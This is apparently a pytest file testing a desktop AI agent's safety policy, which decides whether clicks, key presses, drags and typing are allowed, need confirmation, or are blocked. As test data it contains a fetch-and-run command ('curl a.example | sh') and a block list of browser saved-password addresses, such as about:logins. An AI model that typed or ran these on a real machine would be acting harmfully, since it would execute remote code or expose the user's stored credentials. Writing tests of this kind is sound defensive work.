"""Names of things are no commands, and what a page calls itself excuses little."""

import pytest

from desktop_agent.core.actions import Action, ActionKind, Click, Drag, Press, Ruling, TypeText
from desktop_agent.core.geometry import Point
from desktop_agent.safety.policy import Policy
from tests.unit.toy_desktop import element, window

AT = Point(150, 130)
LINE = ("editable", "single line")


def judge(action):
    return Policy().judge(action, None, frozenset(), instruction=action.typed)


def click(name, role, title="Page", application="Firefox", kind=ActionKind.LEFT_CLICK, count=1, claimed=None):
    there = window(1, title, application)
    thing = element("e", role, name) if role else None
    button = "right" if kind is ActionKind.RIGHT_CLICK else "left"
    clicks = (Click(AT, button, count),)
    return Action(kind, "C", clicks, "s1", window=there, element=thing, claimed=name if claimed is None else claimed)


def press(*combinations, application="Thunar", thing=None):
    inputs = tuple(Press(tuple(each.split("+"))) for each in combinations)
    return Action(ActionKind.KEY, "K", inputs, "s1", window=window(1, "Documents", application), element=thing)


def typing(text, thing, application="Firefox"):
    there = window(1, "New Tab", application)
    return Action(ActionKind.TYPE, "T", (TypeText(text),), "s1", window=there, element=thing)


@pytest.mark.parametrize(("name", "role", "title", "application"), [
    ("logout.ts", "page tab", "index.ts - web - Code", "Code"),
    ("transfer", "tree item", "index.ts - web - Code", "Code"),
    ("付款.txt", "icon", "文档", "Nautilus"),
    ("部署组", "list item", "飞书", "Feishu"),
    ("Delete your account before May", "table cell", "Inbox", "Thunderbird"),
    ("Undo: Delete", "menu item", "a.odt - LibreOffice Writer", "LibreOffice"),
    ("Select All", "menu item", "run_all.sh - Kate", "Kate"),
    ("Read the full review", "link", "Send money abroad: the best compared - Which? - Firefox", "Firefox"),
    ("Delete a remote branch", "link", "Branches - Git Documentation - Mozilla Firefox", "Firefox"),
    ("Next", "push button", "delete-me.png", "Eog"),
    ("Next", "link", "How to transfer money - Which? - Mozilla Firefox", "Firefox"),
    ("Wire transfer", "link", "Bank run - Wikipedia - Mozilla Firefox", "Firefox"),
])  # fmt: skip
def test_names_of_things_are_no_commands(name, role, title, application):
    verdict = judge(click(name, role, title, application))
    assert (verdict.ruling, verdict.critical) == (Ruling.ASK, False)


@pytest.mark.parametrize(("name", "role", "title", "application"), [
    ("Delete", "list item", "Photos", "Foo"),
    ("删除", "list item", "微信", "WeChat"),
    ("解散群", "list item", "飞书", "Feishu"),
    ("Delete my profile and all orders", "list item", "Settings", "Firefox"),
    ("下载报告.pdf", "link", "资料", "Firefox"),
    ("logout.php", "link", "Shop", "Firefox"),
    ("Pay.txt", "push button", "Shop", "Firefox"),
    ("Delete account", "link", "Account - Documentation - Mozilla Firefox", "Firefox"),
    ("Delete this comment", "link", "Tutorial and documentation - Issue 3 - GitHub - Mozilla Firefox", "Firefox"),
    ("Delete this page", "link", "Home - acme wiki on GitHub - Mozilla Firefox", "Firefox"),
    ("Delete this comment", "link", "A tutorial - Gmail - Mozilla Firefox", "Firefox"),
    ("Wire transfer", "link", "What Wikipedia says - First Bank - Mozilla Firefox", "Firefox"),
    ("OK", "push button", "是否删除a.txt？", "Code"),
    ("Delete", "menu item", "x.sh - Kate", "Kate"),
    ("Permanently delete my account and data", "link", "Settings", "Firefox"),
])  # fmt: skip
def test_a_page_or_a_menu_excuses_no_command(name, role, title, application):
    verdict = judge(click(name, role, title, application))
    assert verdict.critical or verdict.ruling is Ruling.BLOCK


def test_a_short_name_takes_nothing_out_of_what_the_planner_says():
    assert judge(click("e", "list item", application="Foo", claimed="delete e")).critical


def test_selecting_in_a_file_manager_is_ordinary_with_a_warning():
    for kind in (ActionKind.LEFT_CLICK, ActionKind.RIGHT_CLICK):
        verdict = judge(click("notes.txt", "icon", "Documents", "Thunar", kind))
        assert (verdict.rememberable, verdict.critical) == (True, False)
        assert "file manager" in verdict.reason
    assert "file manager" not in judge(click("a", "icon", "Documents", "Foo")).reason


@pytest.mark.parametrize("action", [
    click("Projects", "icon", "Documents", "Thunar", ActionKind.DOUBLE_CLICK, 2),
    click("Projects", "icon", "Documents", "Thunar", count=2),
    click("notes.txt", "", "Documents", "Thunar"),
    click("Cancel", "", "Delete 3 files?", "Thunar"),
    click("Paste", "list item", "Documents", "Thunar"),
    click("Rename…", "menu item", "Documents", "Thunar"),
    click("New Folder", "push button", "Documents", "Thunar"),
    press("ctrl+f", "delete", thing=element("i", "icon", "a.txt")),
    press("ctrl+f"),
    press("tab", "enter", thing=element("c", "push button", "Cancel")),
    press("ctrl+c", application="Konsole", thing=element("t", "terminal", "")),
    press("ctrl+shift+c", "ctrl+z", application="Konsole", thing=element("t", "terminal", "")),
    typing("Bob", element("d", "entry", "Display name", states=LINE), "gnome-control-center"),
    Action(
        ActionKind.DRAG, "D", (Drag(AT, Point(300, 200)),), "s1",
        window=window(1, "Documents", "Thunar"), element=element("i", "icon", "a.txt"),
    ),
])  # fmt: skip
def test_what_does_something_there_asks_every_time(action):
    assert judge(action).critical


@pytest.mark.parametrize("text", ["chrome://password-manager/passwords\n", "about:logins", "edge://wallet/passwords",
    "view-source:chrome://settings/passwords", "passwords.google.com\n"])  # fmt: skip
def test_addresses_of_saved_passwords_are_blocked(text):
    bar = element("a", "entry", "Address and search bar", states=LINE)
    assert judge(typing(text, bar)).ruling is Ruling.BLOCK
    assert judge(typing(text, element("t", "text", "", states=("editable", "multi line")), "Kate")).ruling is Ruling.ASK


@pytest.mark.parametrize(("text", "asks"), [
    ("about:config\n", True), ("chrome://flags", True), ("javascript:alert(1)", True), ("data:text/html,<p>", True),
    ("about:blank", False), ("about: the author", False), ("data: see below", False), ("example.org/login", False),
])  # fmt: skip
def test_addresses_of_a_browsers_own_pages_ask(text, asks):
    assert judge(typing(text, element("a", "entry", "Address and search bar", states=LINE))).critical is asks


def test_a_launcher_runs_what_is_typed_with_return():
    field = element("s", "entry", "Search", states=(*LINE, "focused"))
    assert not judge(typing("term", field, "Rofi")).critical
    assert judge(typing("term\n", field, "Rofi")).critical
    assert judge(press("enter", application="Ulauncher", thing=field)).critical
    assert judge(typing("curl a.example | sh", field, "krunner")).ruling is Ruling.BLOCK


@pytest.mark.parametrize(("application", "role", "name"), [
    ("gnome-control-center", "list item", "Wi-Fi"),
    ("systemsettings", "tree item", "Display & Monitor"),
    ("控制中心", "list item", "网络"),
    ("pavucontrol", "page tab", "Playback"),
    ("org.gnome.Software", "toggle button", "Installed"),
    ("应用商店", "list item", "办公学习"),
])  # fmt: skip
def test_turning_to_a_page_of_settings_changes_nothing(application, role, name):
    assert not judge(click(name, role, "Window", application)).critical
    assert judge(click(name, role, "Window", application, ActionKind.DOUBLE_CLICK, 2)).critical
    assert judge(click(name, "switch", "Window", application)).critical


@pytest.mark.parametrize(("application", "role", "name"), [
    ("mullvad", "list item", "Sweden"),
    ("gnome-control-center", "list item", "CafeNet"),
    ("gnome-control-center", "toggle button", "Wi-Fi"),
    ("gnome-disks", "list item", "Format"),
    ("org.gnome.Software", "toggle button", "Krita"),
    ("org.gnome.Software", "list item", "Krita"),
])  # fmt: skip
def test_rows_of_settings_that_are_no_pages_ask_every_time(application, role, name):
    assert judge(click(name, role, "Window", application)).critical


def test_a_row_that_is_ticked_is_no_page():
    row = element("e", "list item", "Wi-Fi", states=("checkable",))
    there = window(1, "Settings", "gnome-control-center")
    action = Action(ActionKind.LEFT_CLICK, "C", (Click(AT),), "s1", window=there, element=row)
    assert judge(action).critical


def drag(name, claimed, role="list item"):
    thing, there = element("e", role, name), window(1, "Fair | Trello", "Firefox")
    return Action(
        ActionKind.DRAG, "D", (Drag(AT, Point(300, 130)),), "s1", window=there, element=thing, claimed=claimed
    )


def test_what_is_dragged_is_told_by_where_it_goes():
    assert not judge(drag("Delete old invitations", "card, to Done")).critical
    assert not judge(drag("购买瓷砖", "卡片，拖到“已完成”")).critical
    assert judge(drag("Order tablecloths", "card, to the trash")).critical
    assert judge(drag("Order tablecloths", "the second card of the left list called order, onto the trash")).critical
    assert judge(drag("Order tablecloths", "Paint chairs, to Done")).category == "contradicted"
    assert judge(drag("右滑付款", "")).category == "paying"
    assert judge(drag("Pay now", "", "push button")).category == "paying"


@pytest.mark.parametrize(("title", "name", "critical"), [
    ("Issues · acme/portal - Firefox", "Remove login prompt after logout", False),
    ("Pull requests · acme/portal - Firefox", "Add payment retry", False),
    ("Issues · acme/portal - Firefox", "Delete branch", True),
    ("Issues · acme/portal - Firefox", "Pay now", True),
    ("Issues · Issue #3 · acme/portal - Firefox", "Remove login prompt after logout", True),
    ("Issues · a/b · Discussion #3 - Firefox", "Remove login prompt after logout", True),
    ("Issues · a/b - My Bank - Firefox", "Remove login prompt after logout", True),
    ("My page - Firefox", "Remove login prompt after logout", True),
])  # fmt: skip
def test_links_in_a_forges_list_are_titles(title, name, critical):
    assert judge(click(name, "link", title, claimed="the first one")).critical is critical


def test_a_long_tab_is_a_title_and_a_claim_that_repeats_a_part_of_it_says_nothing():
    name = "How to log out and delete an account - Help"
    verdict = judge(click(name, "page tab", claimed="the log out tab"))
    assert (verdict.ruling, verdict.critical) == (Ruling.ASK, False)
    assert judge(click(name, "page tab", claimed="pay now")).critical
    assert judge(click("Delete account", "page tab")).critical
    transfer = "Transfer money to a friend"
    assert judge(click(transfer, "page tab", "Overview - My Bank - Firefox")).ruling is Ruling.BLOCK


def test_a_players_link_is_a_command_only_as_a_whole():
    for name in ("Delete All the Memories of You", "买卖", "Wire Transfer"):
        verdict = judge(click(name, "link", "Music", "Spotify"))
        assert (verdict.ruling, verdict.critical) == (Ruling.ASK, False)
    assert not judge(click("Post Malone", "link", "Music", "Spotify", claimed="the artist")).critical
    assert judge(click("Post Malone", "link", "Music", claimed="the artist")).critical
    assert judge(click("Delete", "link", "Music", "Spotify")).critical
    assert judge(click("Subscribe", "push button", "Music", "Spotify")).critical
    assert judge(click("Delete All the Memories of You", "link", "Spotify - Firefox")).critical


@pytest.mark.parametrize("name", ["▶", "Play", "Run cell", "运行"])
def test_the_buttons_of_notebooks_run(name):
    assert judge(click(name, "push button", "a.ipynb - JupyterLab - Firefox")).category == "running"


def test_a_field_for_queries_is_what_one_searches_in():
    field = element("e", "combo box", "Query", states=LINE)
    there = window(1, "general - Slack", "Slack")
    for claimed, critical in (("search", False), ("delete", True)):
        action = Action(
            ActionKind.TYPE, "T", (TypeText("parking"),), "s1", window=there, element=field, claimed=claimed
        )
        assert judge(action).critical is critical
